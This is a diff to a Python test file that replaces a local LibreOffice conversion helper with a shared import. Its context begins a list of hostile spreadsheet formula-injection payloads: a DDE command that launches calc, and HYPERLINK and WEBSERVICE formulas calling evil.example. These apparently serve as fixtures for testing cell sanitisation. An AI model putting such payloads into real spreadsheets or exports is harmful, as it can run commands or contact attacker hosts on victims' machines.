@@ -5,8 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import shutil
-import subprocess
 import zipfile
 from pathlib import Path
 
@@ -15,21 +13,7 @@ from openpyxl import Workbook, load_workbook
 from openpyxl.cell.text import InlineFont
 
 from csc_hub.exchange import safe_text
-
-try:
-    from tests.parts import soffice_convert
-except ImportError:  # until the shared one is there
-
-    def soffice_convert(path: Path, to: str, outdir: Path) -> Path:
-        """The file as LibreOffice saves it in another format."""
-        if not shutil.which("soffice"):
-            pytest.skip("LibreOffice is missing: apt-get install libreoffice-calc libreoffice-writer")
-        outdir.mkdir(parents=True, exist_ok=True)
-        profile = f"-env:UserInstallation={(outdir / 'profile').resolve().as_uri()}"
-        command = ["soffice", profile, "--headless", "--convert-to", to, "--outdir", str(outdir), str(path)]
-        subprocess.run(command, check=True, capture_output=True, timeout=120)
-        return outdir / f"{path.stem}.{to.split(':')[0]}"
-
+from tests.parts import soffice_convert
 
 HOSTILE = (
     "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"Click\")", "=WEBSERVICE(\"http://evil.example\")",
